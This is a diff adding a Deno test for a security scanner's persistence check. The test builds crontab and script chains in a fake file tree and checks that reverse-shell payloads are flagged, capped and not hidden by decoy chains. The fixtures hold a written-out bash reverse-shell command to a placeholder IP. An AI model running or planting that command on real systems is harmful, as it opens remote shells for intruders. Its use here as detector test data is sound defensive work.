@@ -271,6 +271,35 @@ Deno.test("persistence: a payload down a chain of scripts is found; a loop of sc
   assert.deepEqual(f.metadata.indicators, ["dev_tcp_redirect:/usr/local/lib/backup/common.sh:2"]);
 });
 
+Deno.test("persistence: script chains cannot blow up (each payload once, capped) or hide behind a deeper decoy", async () => {
+  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
+  const script = (content: string) => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
+  using root = makeTree(base({
+    // A user's crontab: a.sh runs b.sh 150 times, b.sh runs c.sh 150 times, c.sh holds 150 payload lines.
+    "var/spool/cron/crontabs/bob": "* * * * * /home/bob/a.sh\n",
+    "home/bob/a.sh": script("/home/bob/b.sh\n".repeat(150)),
+    "home/bob/b.sh": script("/home/bob/c.sh\n".repeat(150)),
+    "home/bob/c.sh": script(`${rev}\n`.repeat(150)),
+    // A decoy chain reaches q4.sh fourth (its child not followed there); the job that runs q4.sh first is judged.
+    "etc/cron.d/decoy": "0 1 * * * root /opt/q/q1.sh\n",
+    "opt/q/q1.sh": script("/opt/q/q2.sh"),
+    "opt/q/q2.sh": script("/opt/q/q3.sh"),
+    "opt/q/q3.sh": script("/opt/q/q4.sh"),
+    "opt/q/q4.sh": script("/opt/q/q5.sh"),
+    "opt/q/q5.sh": script(rev),
+    "etc/cron.d/zz-real": "0 2 * * * root /opt/q/q4.sh\n",
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  const cmd = summary(r.findings).filter((f) => f.includes("persistence.command.reverse_shell"));
+  assert.deepEqual(cmd, [
+    "critical persistence.command.reverse_shell /etc/cron.d/zz-real",
+    "critical persistence.command.reverse_shell /var/spool/cron/crontabs/bob",
+  ]);
+  const bob = r.findings.find((f) => f.metadata.path === "/var/spool/cron/crontabs/bob")!;
+  assert.equal((bob.metadata.indicators as string[]).length, 64);
+});
+
 Deno.test("persistence: a program named through a variable set to a path earlier in the file is judged", async () => {
   const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
   using root = makeTree(base({
